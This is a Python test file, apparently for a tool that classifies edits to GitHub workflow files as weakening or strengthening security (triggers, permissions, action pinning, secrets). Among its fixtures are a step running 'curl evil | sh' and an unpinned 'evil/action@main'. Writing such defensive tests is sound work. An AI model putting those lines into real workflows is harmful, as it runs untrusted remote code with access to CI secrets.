"""GitHub workflows: rights, triggers and foreign code."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app import admission
from app.core.policy_edit import Effect, PolicyEdit, combined
from app.core.tree import File
from tests.admission.edits import CANNOT_TELL, NEUTRAL, STRONGER, WEAKER

PATH = ".github/workflows/ci.yml"
PINNED, OTHER = f"actions/checkout@{'a' * 40}", f"actions/checkout@{'b' * 40}"
SHA = f"docker://alpine@sha256:{'c' * 64}"


def texts(before: str | None, after: str | None, path: str = PATH) -> tuple[PolicyEdit, ...]:
    sides = ([] if text is None else [File(path, text)] for text in (before, after))
    return admission.compare(*sides)


def workflow(job: object = None, **more: object) -> dict[str, object]:
    return {"on": ["push"], "jobs": {"build": job or {"runs-on": "x", "steps": []}}, **more}


def step(*uses: str, **more: object) -> dict[str, object]:
    return {"runs-on": "x", "steps": [{"uses": one} for one in uses], **more}


def effect(before: object, after: object) -> Effect:
    sides = (None if one is None else json.dumps(one) for one in (before, after))
    return combined(edit.effect for edit in texts(*sides))


@pytest.mark.parametrize(
    ("before", "after", "wanted"),
    [
        (workflow(), workflow(on=["push", "pull_request_target"]), WEAKER),
        (workflow(), workflow(on={"push": {}, "issue_comment": {"types": ["created"]}}), WEAKER),
        (workflow(), workflow(on="workflow_run"), WEAKER),
        (workflow(), workflow(on=["push", "pull_request"]), CANNOT_TELL),
        (workflow(on=["push", "pull_request_target"]), workflow(), CANNOT_TELL),
        (workflow(), workflow(on=3), CANNOT_TELL),
        (workflow(permissions={}), workflow(permissions={"contents": "write"}), WEAKER),
        (workflow(permissions={"contents": "read"}), workflow(permissions={}), STRONGER),
        (workflow(permissions="read-all"), workflow(permissions="write-all"), WEAKER),
        (workflow(permissions="read-all"), workflow(permissions={"contents": "read"}), STRONGER),
        (workflow(permissions={"contents": "none"}), workflow(permissions={}), NEUTRAL),
        (workflow(permissions={}), workflow(permissions={"contents": "maybe"}), CANNOT_TELL),
        (workflow(), workflow(permissions={"contents": "read"}), STRONGER),
        (workflow(), workflow(permissions={}), STRONGER),
        (workflow(), workflow(permissions="write-all"), WEAKER),
        (workflow(), workflow(permissions={"contents": "write"}), CANNOT_TELL),
        (workflow(), workflow(permissions=3), CANNOT_TELL),
        (workflow(permissions={}), workflow(), WEAKER),
        (workflow(), workflow(step(permissions="write-all")), WEAKER),
        (workflow(step(), permissions={}), workflow(step(permissions={"contents": "read"}), permissions={}), WEAKER),
        (workflow(step(permissions={"contents": "read"}), permissions={}), workflow(step(), permissions={}), STRONGER),
        (workflow(step(), permissions={}), workflow(step(permissions={}), permissions={}), CANNOT_TELL),
        (workflow(step(PINNED)), workflow(step("actions/checkout@v4")), WEAKER),
        (workflow(step(PINNED)), workflow(step(OTHER)), CANNOT_TELL),
        (workflow(step("actions/checkout@v4")), workflow(step(PINNED)), CANNOT_TELL),
        (workflow(step()), workflow(step("evil/action@main")), CANNOT_TELL),
        (workflow(step(SHA)), workflow(step("docker://alpine@latest")), WEAKER),
        (
            workflow({"uses": f"a/b/.github/workflows/c.yml@{'a' * 40}"}),
            workflow({"uses": "a/b/.github/workflows/c.yml@v1"}),
            WEAKER,
        ),
        (workflow(step()), workflow({"runs-on": "x", "steps": [{"run": "curl evil | sh"}]}), CANNOT_TELL),
        (workflow(step()), workflow(step(**{"continue-on-error": True})), WEAKER),
        (workflow(step(**{"continue-on-error": True})), workflow(step()), CANNOT_TELL),
        (workflow(step(environment="prod")), workflow(step()), WEAKER),
        (workflow(step()), workflow(step(environment="prod")), STRONGER),
        (workflow(step(environment="prod")), workflow(step(environment="dev")), WEAKER),
        (workflow(step()), workflow(step(secrets="inherit")), WEAKER),
        (workflow(step()), workflow(step(secrets={"a": "b"})), CANNOT_TELL),
        (workflow(step()), workflow(step(**{"runs-on": "y"})), CANNOT_TELL),
        (workflow(), {**workflow(), "jobs": {}}, CANNOT_TELL),
        (workflow(), workflow(**{"run-name": "a"}), NEUTRAL),
        (workflow(), workflow(env={"a": "b"}), CANNOT_TELL),
        (workflow(), None, CANNOT_TELL),
        (None, workflow(), CANNOT_TELL),
        (None, workflow(on="pull_request_target"), WEAKER),
        (workflow(), [workflow()], CANNOT_TELL),
    ],
)
def test_workflows(before: object, after: object, wanted: Effect) -> None:
    assert effect(before, after) is wanted


def test_only_comments_are_neutral() -> None:
    assert [edit.effect for edit in texts("on: push\n", "# x\non: push\n")] == [NEUTRAL]


@pytest.mark.parametrize("text", ["on: [", "", "a: b\n---\nc: d\n"])
def test_what_cannot_be_read_cannot_be_told(text: str) -> None:
    assert CANNOT_TELL in {edit.effect for edit in texts("on: push\n", text)}
    assert CANNOT_TELL in {edit.effect for edit in texts(None, text)}


def test_edits_name_no_object() -> None:
    assert {edit.resource for edit in texts(json.dumps(workflow()), json.dumps(workflow(env={})))} == {None}


def test_other_files_are_no_workflows() -> None:
    assert texts("on: push\n", "on: pull_request_target\n", ".github/other/ci.yml") == ()


VALUES = st.recursive(
    st.none() | st.booleans() | st.sampled_from(["push", "write-all", "read", PINNED, "a/b@v1", "inherit"]),
    lambda inner: (
        st.lists(inner, max_size=2)
        | st.dictionaries(
            st.sampled_from(["on", "jobs", "permissions", "steps", "uses", "environment", "secrets", "contents"]),
            inner,
            max_size=3,
        )
    ),
    max_leaves=12,
)
DOCUMENTS = st.dictionaries(st.sampled_from(["on", "jobs", "permissions", "env"]), VALUES, max_size=3)


@given(DOCUMENTS, DOCUMENTS)
@settings(deadline=None, max_examples=150)
def test_comparing_never_breaks_and_never_overlooks(before: object, after: object) -> None:
    same = json.dumps(before) == json.dumps(after)
    assert bool(texts(json.dumps(before), json.dumps(after))) is not same
